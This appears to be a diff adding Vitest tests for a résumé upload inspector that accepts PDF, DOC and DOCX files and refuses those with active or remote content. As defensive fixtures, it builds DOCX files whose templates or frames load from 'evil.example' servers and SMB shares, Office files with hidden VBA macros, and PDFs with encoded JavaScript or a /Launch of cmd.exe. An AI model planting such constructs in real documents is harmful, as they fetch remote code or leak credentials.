@@ -1,0 +1,260 @@
+/// <reference types="vite/types/importMeta.d.ts" />
+/** What a résumé may be. The files in documents/ were written by the programs in their names; the others are made here. */
+import { zlibSync, strToU8, type Zippable } from 'fflate';
+import { describe, expect, test } from 'vitest';
+import type { ResumeExtension } from '@/schemas/forms/resume';
+import { inspectResume } from '../../functions/resumes/inspect';
+import { problems } from '../../functions/resumes/problems';
+import type { ByteSource } from '../../functions/resumes/source';
+import { bytesOf, doc, docx, docxFiles, joined, ole, pdf, zip } from './documents';
+
+const TYPE = 'Please upload only PDF, DOC, or DOCX files.';
+
+/** A file that comes in chunks of one size. */
+const sourceOf = (bytes: Uint8Array, chunk: number): ByteSource => ({
+  size: bytes.length,
+  read: async (offset, length) => bytes.slice(offset, offset + length),
+  stream: async function* () {
+    for (let at = 0; at < bytes.length; at += chunk) yield bytes.slice(at, at + chunk);
+  },
+});
+
+const inspect = (bytes: Uint8Array, extension: ResumeExtension, chunk = 4096) =>
+  inspectResume(sourceOf(bytes, chunk), extension);
+
+const files = import.meta.glob<string>('./documents/*', {
+  query: '?url&inline',
+  import: 'default',
+  eager: true,
+});
+const written = Object.entries(files).map(
+  ([path, url]) =>
+    [path.replace('./documents/', ''), Uint8Array.fromBase64(url.split(',')[1] ?? '')] as const,
+);
+
+describe('a document of a real program', () => {
+  test('is there of each kind', () => {
+    const kinds = new Set(written.map(([name]) => name.split('.').pop()));
+    expect(kinds).toEqual(new Set(['pdf', 'doc', 'docx']));
+  });
+
+  test.each(written)('%s is taken, however it arrives', async (name, bytes) => {
+    const extension = name.split('.').pop() as ResumeExtension;
+    for (const chunk of [97, 4096, bytes.length])
+      expect(await inspect(bytes, extension, chunk)).toBeUndefined();
+  });
+});
+
+/** The parts of a document with relations of its settings, as Word writes them. */
+const related = (relations: string): Zippable => ({
+  'word/settings.xml': strToU8('<w:settings/>'),
+  'word/_rels/settings.xml.rels': strToU8(`<?xml version="1.0"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`),
+});
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const relation = (type: string, target: string, mode = 'External') =>
+  `<Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="${mode}"/>`;
+const template = (target: string) => related(relation(`${OFFICE}/attachedTemplate`, target));
+
+describe('a DOCX', () => {
+  test.each([
+    [
+      'a template of the computer that wrote it',
+      template('file:///C:\\Users\\Elena\\Templates\\Resume%20modern.dotx'),
+    ],
+    ['a template on a Mac', template('file:///Users/elena/Templates/Resume.dotx')],
+    ['a template by its path', template('C:\\Templates\\Resume.dotx')],
+    ['a template beside it', template('Resume.dotx')],
+    ['a link', related(relation(`${OFFICE}/hyperlink`, 'https://example.com/elena'))],
+    ['a linked picture', related(relation(`${OFFICE}/image`, 'https://example.com/elena.png'))],
+  ])('with %s is taken', async (_, parts) => {
+    expect(await inspect(docx(parts), 'docx')).toBeUndefined();
+  });
+
+  test.each([
+    ['a server', template('https://evil.example/t.dotm')],
+    ['a server without TLS', template('http://evil.example/t.dotm')],
+    ['a share', template('\\\\evil.example\\share\\t.dotm')],
+    ['a share as an address', template('file://evil.example/share/t.dotm')],
+    ['a share behind three slashes', template('file:////evil.example/share/t.dotm')],
+    ['a protocol of a program', template('mhtml:https://evil.example/t.dotm')],
+    ['a server, in entities', template('&#x68;ttps://evil.example/t.dotm')],
+    [
+      'a server, in other words',
+      related(
+        `<x:Relationship TargetMode='external' Target='https://evil.example/t' Type='${OFFICE}/attachedTemplate'></x:Relationship>`,
+      ),
+    ],
+    ['a server as a frame', related(relation(`${OFFICE}/frame`, 'https://evil.example/'))],
+    ['a server as an object', related(relation(`${OFFICE}/oleObject`, 'https://evil.example/x.docx!'))],
+    ['a server as a part', related(relation(`${OFFICE}/subDocument`, 'https://evil.example/x.docx'))],
+  ])('that loads something from %s is refused', async (_, parts) => {
+    expect(await inspect(docx(parts), 'docx')).toBe(problems.remote);
+  });
+
+  const VBA = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
+  const typed = (override: string) =>
+    docx({ '[Content_Types].xml': strToU8(`<Types>${override}</Types>`), 'word/notes.bin': strToU8('x') });
+  test.each([
+    [
+      'by its relation',
+      docx({ ...related(relation(VBA, 'notes.bin', 'Internal')), 'word/notes.bin': strToU8('x') }),
+    ],
+    [
+      'by its type',
+      typed('<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
+    ],
+    [
+      'by the type of its ending',
+      typed('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
+    ],
+    [
+      'by the type of the document',
+      typed(
+        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+      ),
+    ],
+  ])('with macros under another name is refused: %s', async (_, bytes) => {
+    expect(await inspect(bytes, 'docx')).toBe(problems.macros);
+  });
+
+  test.each([
+    ['has relations in UTF-16', docx({ 'word/_rels/document.xml.rels': strToU8('<\0R\0e\0l\0/\0>\0') })],
+    [
+      'renames things',
+      docx({ 'word/_rels/document.xml.rels': strToU8('<!DOCTYPE r [<!ENTITY t "x">]><r/>') }),
+    ],
+    [
+      'has a part twice',
+      docx({
+        'word/_rels/document.xml.rels': strToU8('<r/>'),
+        'word/_rels/Document.xml.rels': strToU8('<r/>'),
+      }),
+    ],
+  ])('that %s cannot be checked, and is refused', async (_, bytes) => {
+    expect(await inspect(bytes, 'docx')).toBe(problems.unreadable);
+  });
+
+  test('whose relations unpack to very much is refused', async () => {
+    const bytes = docx({ 'word/_rels/document.xml.rels': new Uint8Array(900_000) });
+    expect(await inspect(bytes, 'docx')).toBe(problems.unreadable);
+  });
+});
+
+describe('a DOC', () => {
+  const WORD_97 = '0609020000000000c000000000000046';
+  const EXCEL = '2008020000000000c000000000000046';
+
+  test.each([
+    ['says that it is of Word', ole(['1Table', 'WordDocument'], { classId: WORD_97 })],
+    ['says nothing', doc()],
+  ])('that %s is taken', async (_, bytes) => {
+    expect(await inspect(bytes, 'doc')).toBeUndefined();
+  });
+
+  test.each([
+    ['Macros', '_VBA_PROJECT'],
+    ['Macros', 'dir'],
+    ['x', 'VBA'],
+    ['x', '_vba_project_cur'],
+  ])('with the storages of macros %s and %s is refused', async (...names) => {
+    for (const chunk of [100, 4096])
+      expect(await inspect(ole(['1Table', 'WordDocument', ...names]), 'doc', chunk)).toBe(problems.macros);
+  });
+
+  test.each([
+    ['nothing of Word in it', ole(['Contents'])],
+    ['the root of a spreadsheet', ole(['WordDocument'], { classId: EXCEL })],
+    ['a mail in it', ole(['WordDocument', '__properties_version1.0'])],
+    ['a presentation in it', ole(['WordDocument', 'PowerPoint Document'])],
+  ])('that is an OLE file with %s is refused', async (_, bytes) => {
+    expect(await inspect(bytes, 'doc')).toBe(TYPE);
+  });
+});
+
+describe('a PDF', () => {
+  const objects = (text: string) => joined(pdf().slice(0, 9), bytesOf(`${text}\n`), pdf().slice(9));
+  const packed = (text: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') => {
+    const data = Uint8Array.from(zlibSync(strToU8(text)));
+    return joined(
+      pdf().slice(0, 9),
+      bytesOf(`7 0 obj << ${dictionary} /Length ${data.length} >> stream\r\n`),
+      data,
+      bytesOf('\r\nendstream endobj\n'),
+      pdf().slice(9),
+    );
+  };
+
+  test.each([
+    ['in a text', objects('3 0 obj (HTML/CSS/JavaScript, (/JS) \\) /Launch) endobj')],
+    ['in a comment', objects('% /JavaScript /JS /Launch')],
+    [
+      'in a page that is not packed',
+      objects('4 0 obj << /Length 44 >> stream\n(Skills: /JavaScript) Tj /JS\nendstream endobj'),
+    ],
+    ['as a part of another name', objects('3 0 obj << /JSX 1 /LaunchPad 2 /JavaScripts 3 >> endobj')],
+    ['in packed text', packed('8 0 (HTML/CSS/JavaScript /JS)')],
+    ['in what is packed and no object', packed('/JS', '/Filter /FlateDecode')],
+  ])('that has such words %s is taken', async (_, bytes) => {
+    for (const chunk of [1, 7, 4096]) expect(await inspect(bytes, 'pdf', chunk)).toBeUndefined();
+  });
+
+  const action = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';
+  test.each([
+    ['a script', objects(`3 0 obj ${action} endobj`)],
+    ['a script of the document', objects('3 0 obj << /Names << /JavaScript 5 0 R >> >> endobj')],
+    ['a script of a rendition', objects('3 0 obj << /S /Rendition /JS 5 0 R >> endobj')],
+    ['a program', objects('3 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
+    ['a script whose name is written with codes', objects('3 0 obj << /S /J#61va#53cript >> endobj')],
+    ['a short name that is written with codes', objects('3 0 obj << /#4aS 5 0 R >> endobj')],
+    ['a type that stands elsewhere', objects('3 0 obj /JavaScript endobj')],
+    ['a script behind a text', objects(`3 0 obj (a \\( b (c) \\\\) ${action} endobj`)],
+    ['a script behind a comment', objects(`% a comment (with a parenthesis\n${action}`)],
+    ['a script inside of a text', objects(`3 0 obj (4 0 obj ${action} endobj) endobj`)],
+    ['a script inside of a stream', objects(`3 0 obj << /Length 9 >> stream\n${action}\nendstream endobj`)],
+    ['a script in a packed object', packed(`8 0 ${action}`)],
+    [
+      'a script in a packed object without its type',
+      packed(`8 0 ${action}`, '/N 1 /First 4 /Filter /FlateDecode'),
+    ],
+    ['a script far into packed objects', packed(`8 0 ${'<< /A (x) >> '.repeat(20_000)}${action}`)],
+    [
+      'a script in objects that are not packed',
+      objects(`7 0 obj << /Type /ObjStm /First 4 >> stream\n8 0 << /JS (x) >>\nendstream endobj`),
+    ],
+  ])('with %s is refused', async (_, bytes) => {
+    for (const chunk of bytes.length < 5000 ? [1, 7, 4096] : [4096])
+      expect(await inspect(bytes, 'pdf', chunk)).toBe(problems.active);
+  });
+
+  test.each([
+    ['in another way', '/Type /ObjStm /First 4 /Filter /ASCIIHexDecode'],
+    ['twice', '/Type /ObjStm /First 4 /Filter [/FlateDecode /FlateDecode]'],
+    ['in a way that is said elsewhere', '/Type /ObjStm /First 4 /Filter 9 0 R'],
+    ['after a change', '/Type /ObjStm /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'],
+  ])('whose objects are packed %s cannot be checked, and is refused', async (_, dictionary) => {
+    expect(await inspect(packed('8 0 null', dictionary), 'pdf')).toBe(problems.unreadable);
+  });
+
+  test('whose objects are no packed data cannot be checked, and is refused', async () => {
+    const bytes = objects(
+      '7 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nnot deflated at all\nendstream endobj',
+    );
+    expect(await inspect(bytes, 'pdf')).toBe(problems.unreadable);
+  });
+
+  test('whose objects unpack to very much is refused', async () => {
+    const bytes = packed(' '.repeat(21 * 1024 * 1024));
+    expect(bytes.length).toBeLessThan(100_000);
+    expect(await inspect(bytes, 'pdf')).toBe(problems.tooMuch);
+  });
+
+  const archive = zip(docxFiles);
+  test.each([
+    ['behind it', joined(pdf(), archive)],
+    ['behind it, with something after that', joined(pdf(), archive, bytesOf('\n%%EOF\n'))],
+    ['inside of it', objects(`4 0 obj << >> stream\n${String.fromCharCode(...archive)}\nendstream endobj`)],
+  ])('that is also a zip file, %s, is refused', async (_, bytes) => {
+    expect(await inspect(bytes, 'pdf')).toBe(TYPE);
+  });
+});
